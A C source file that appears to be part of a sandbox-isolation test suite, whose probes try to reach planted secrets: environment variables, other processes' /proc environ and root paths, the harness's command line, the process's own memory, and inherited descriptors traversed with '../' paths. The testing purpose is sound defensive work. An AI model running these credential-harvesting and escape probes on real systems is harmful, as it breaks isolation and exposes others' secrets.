// What is read that belongs to people, to the harness or to the machine. All secrets are planted.
#include <dirent.h>

#include "hostile.h"

extern char **environ;

static void read_files(void) { for_each(order("secrets"), tell_secrets_of_file); }

// Files that everybody may read, in folders that are somebody's home.
static void list(const char *folder) {
    DIR *opened = opendir(folder);
    if (!opened) {
        refused(folder);
        return;
    }
    for (struct dirent *entry; (entry = readdir(opened));) {
        if (strstr(entry->d_name, "refloader-canary")) got("saw %s/%s", folder, entry->d_name);
    }
    closedir(opened);
}

static void list_homes(void) { for_each(order("homes"), list); }

static void read_variables(void) {
    for (char **each = environ; *each; each++) tell_secrets(*each, strlen(*each));
    tell_secrets_of_file("/proc/self/environ");
}

static void read_environ_one(pid_t target) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/environ", target);
    tell_secrets_of_file(path);
}

static void read_environ(void) {
    for_each_target(read_environ_one);
    // Where /proc is the machine's, its numbers hold whatever namespace this process is in.
    if (number("harness") > 1) read_environ_one((pid_t)number("harness"));
}

static void read_through(const char *root) {
    char path[2300];
    char *copy = strdup(order("secrets")), *rest = copy, *part;
    while ((part = strsep(&rest, ":"))) {
        snprintf(path, sizeof path, "%s%s", root, part);
        tell_secrets_of_file(path);
    }
    free(copy);
}

static void read_through_process(pid_t target) {
    char root[64];
    snprintf(root, sizeof root, "/proc/%d/root", target);
    read_through(root);
    snprintf(root, sizeof root, "/proc/%d/cwd/../../../../../../../..", target);
    read_through(root);
}

static void read_other_roots(void) {
    for_each_target(read_through_process);
    if (number("harness") > 1) read_through_process((pid_t)number("harness"));
}

static void read_own_memory(void) {
    static char piece[1 << 20];
    char line[512];
    FILE *maps = fopen("/proc/self/maps", "re");
    int memory = open("/proc/self/mem", O_RDONLY | O_CLOEXEC);
    unsigned long start = 0, end = 0, total = 0;
    while (maps && memory >= 0 && fgets(line, sizeof line, maps) && total < (256UL << 20)) {
        char rights[8] = "";
        if (sscanf(line, "%lx-%lx %7s", &start, &end, rights) != 3 || rights[1] != 'w') continue;
        total += end - start;
        for (; start < end; start += sizeof piece - 128) {
            size_t size = end - start < sizeof piece ? end - start : sizeof piece;
            ssize_t length = pread(memory, piece, size, (off_t)start);
            if (length <= 0) break;
            tell_secrets(piece, (size_t)length);
        }
    }
}

// Descriptors that came from the harness lead to what no path leads to any more.
static void use_descriptors(void) {
    for (int descriptor = 0; descriptor < 256; descriptor++) {
        struct stat status;
        char link[64], target[256] = "", path[1400];
        if (fstat(descriptor, &status) < 0) continue;
        snprintf(link, sizeof link, "/proc/self/fd/%d", descriptor);
        if (readlink(link, target, sizeof target - 1) < 0) target[0] = 0;
        had("descriptor %d, %s", descriptor, target);
        if (!S_ISDIR(status.st_mode)) continue;
        char *copy = strdup(order("secrets")), *rest = copy, *part;
        while ((part = strsep(&rest, ":"))) {
            snprintf(path, sizeof path, "../../../../../../../..%s", part);
            int file = openat(descriptor, path, O_RDONLY | O_CLOEXEC);
            if (file < 0) continue;
            got("%s through descriptor %d", part, descriptor);
            close(file);
        }
        free(copy);
    }
}

// What the machine says of those who run on it.
static void read_processes(void) {
    char path[64];
    if (number("harness") <= 1) return;
    snprintf(path, sizeof path, "/proc/%ld/cmdline", number("harness"));
    int file = open(path, O_RDONLY | O_CLOEXEC);
    char text[4096] = "";
    if (file < 0 || read(file, text, sizeof text - 1) <= 0) {
        refused(path);
    } else {
        for (size_t i = 0; i + 1 < sizeof text; i++) {
            if (!text[i] && text[i + 1]) text[i] = ' ';
        }
        if (strstr(text, "harness_process")) had("the harness's command line");
    }
    if (file >= 0) close(file);
}

const struct act secrets[] = {
    {"read-secrets", read_files, 0},
    {"list-homes", list_homes, 0},
    {"read-variables", read_variables, 0},
    {"read-environ", read_environ, 0},
    {"read-other-roots", read_other_roots, 0},
    {"read-own-memory", read_own_memory, 0},
    {"use-descriptors", use_descriptors, 0},
    {"read-processes", read_processes, 0},
    {NULL, NULL, 0},
};
